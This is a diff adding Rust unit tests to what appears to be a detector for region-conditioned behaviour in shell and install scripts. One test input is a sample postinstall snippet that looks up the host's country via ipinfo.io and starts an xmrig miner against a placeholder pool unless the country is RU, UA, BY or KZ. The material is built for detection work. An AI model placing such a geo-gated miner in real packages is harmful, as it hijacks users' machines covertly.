@@ -559,3 +559,65 @@ fn commands_built_elsewhere_carry_their_inputs() {
     );
     assert!(crate::sensitive_path("/tmp/x").is_none());
 }
+
+// ----------------------------------------------------------------------- region tests (#17)
+
+fn guards(s: &str) -> Vec<telltale_facts::RegionGuardFact> {
+    an(s).region_guards
+}
+
+#[test]
+fn geo_ip_answer_grepped_into_a_variable_runs_a_miner_only_outside() {
+    // The postinstall: the miner runs only when the answer is not RU, UA, BY or KZ.
+    let s = "C=$(curl -s https://ipinfo.io/country | grep 'RU\\|UA\\|BY\\|KZ')\nif [ -z \"$C\" ]; then\n  ./xmrig -o pool.example.net:3333 &\nfi\n";
+    let g = guards(s);
+    assert_eq!(g.len(), 1, "{g:#?}");
+    assert_eq!(g[0].countries, vec!["BY", "KZ", "RU", "UA"]);
+    assert!(g[0].outside, "{g:#?}");
+    assert_eq!(g[0].effects, vec![telltale_facts::Effect::Exec]);
+    assert!(
+        at(s, g[0].guarded).contains("xmrig"),
+        "{}",
+        at(s, g[0].guarded)
+    );
+    assert!(
+        g[0].steps.iter().any(|st| st.what.contains("ipinfo.io")),
+        "{:#?}",
+        g[0].steps
+    );
+}
+
+#[test]
+fn time_zone_and_language_tests_with_and_or_if() {
+    let g = guards("[ \"$TZ\" = \"Europe/Moscow\" ] && curl -s https://x.example.net/ping");
+    assert_eq!(g.len(), 1, "{g:#?}");
+    assert_eq!(g[0].countries, vec!["RU"]);
+    assert!(!g[0].outside);
+    assert_eq!(g[0].effects, vec![telltale_facts::Effect::Network]);
+    // The same notice in two languages is a localized message.
+    let g = guards(
+        "if [[ $LANG == zh_CN* ]]; then\n  echo '此包已弃用'\nelse\n  echo 'deprecated'\nfi",
+    );
+    assert_eq!(g.len(), 1, "{g:#?}");
+    assert_eq!(g[0].countries, vec!["CN"]);
+    assert_eq!(g[0].effects, vec![telltale_facts::Effect::Localized]);
+    // `||`: runs when the test fails.
+    let g = guards("[ \"$TZ\" != \"Asia/Shanghai\" ] || export MIRROR=https://npmmirror.com");
+    assert!(
+        g.iter()
+            .all(|g| g.effects.is_empty() || g.countries == vec!["CN"]),
+        "{g:#?}"
+    );
+}
+
+#[test]
+fn words_that_are_not_region_data_are_no_region_test() {
+    for s in [
+        "if [ \"$1\" = \"no\" ]; then exit 1; fi",
+        "STATUS=$(cat status.txt); [ \"$STATUS\" = \"in\" ] && ./run.sh",
+        "curl -s https://example.com/list | grep RU && ./x",
+        "if [ -z \"$NODE_ENV\" ]; then node build.js; fi",
+    ] {
+        assert!(guards(s).is_empty(), "{s}: {:#?}", guards(s));
+    }
+}
